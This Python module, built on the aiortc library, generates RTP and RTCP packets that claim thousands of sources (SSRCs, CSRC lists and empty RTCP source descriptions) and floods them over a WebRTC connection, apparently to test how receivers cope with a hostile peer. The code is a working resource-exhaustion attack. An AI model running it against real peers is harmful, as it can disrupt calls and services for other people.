"""RTP and RTCP that name many sources, as a hostile peer sends them beside its media."""

import asyncio
import random
import re
import struct

from aiortc import RTCPeerConnection
from aiortc.rtp import RtpPacket

# A receiver believes in a source after a few packets in order (RFC 3550, A.1).
PACKETS_OF_EACH = 5
PAYLOAD = bytes([0x10, 0x01, 0x00, 0x00]) + bytes(60)
# What the headers have room for (RFC 3550, 5.1 and 6.5).
CSRCS_OF_A_PACKET, CHUNKS_OF_A_PACKET, PACKETS_OF_A_COMPOUND = 15, 31, 4


def ssrcs(sources: list[int], payload_type: int):
    """Some packets under each of the SSRCs."""
    for number in range(PACKETS_OF_EACH):
        for ssrc in sources:
            yield RtpPacket(payload_type, 1, 1000 + number, 3000 * number, ssrc, PAYLOAD).serialize()


def csrcs(sources: list[int], payload_type: int):
    """Packets under the first SSRC, which name the others as contributing sources."""
    ssrc = sources[0]
    yield from ssrcs([ssrc], payload_type)
    for number, start in enumerate(range(1, len(sources), CSRCS_OF_A_PACKET), PACKETS_OF_EACH):
        packet = RtpPacket(payload_type, 1, 1000 + number, 3000 * number, ssrc, PAYLOAD)
        packet.csrc = sources[start : start + CSRCS_OF_A_PACKET]
        yield packet.serialize()


def descriptions(sources: list[int], payload_type: int):
    """RTCP of the first SSRC, which describes the others without a word about them."""
    report = struct.pack("!BBHI", 0x80, 201, 1, sources[0])
    compound = report
    for number, start in enumerate(range(1, len(sources), CHUNKS_OF_A_PACKET), 1):
        chunks = [struct.pack("!II", ssrc, 0) for ssrc in sources[start : start + CHUNKS_OF_A_PACKET]]
        compound += struct.pack("!BBH", 0x80 | len(chunks), 202, 2 * len(chunks)) + b"".join(chunks)
        if number % PACKETS_OF_A_COMPOUND == 0:
            yield compound
            compound = report


KINDS = {"ssrcs": ssrcs, "csrcs": csrcs, "descriptions": descriptions}


async def flood(connection: RTCPeerConnection, kind: str, count: int) -> None:
    """Names `count` sources, in RTP of the first video format that was agreed on."""
    transport = connection.getSenders()[0].transport
    payload_type = int(re.search(r"m=video \d+ \S+ (\d+)", connection.localDescription.sdp)[1])
    sources = random.Random(7).sample(range(1, 2**32), count)
    for index, packet in enumerate(KINDS[kind](sources, payload_type)):
        await transport._send_rtp(packet)
        if index % 50 == 49:
            await asyncio.sleep(0.01)
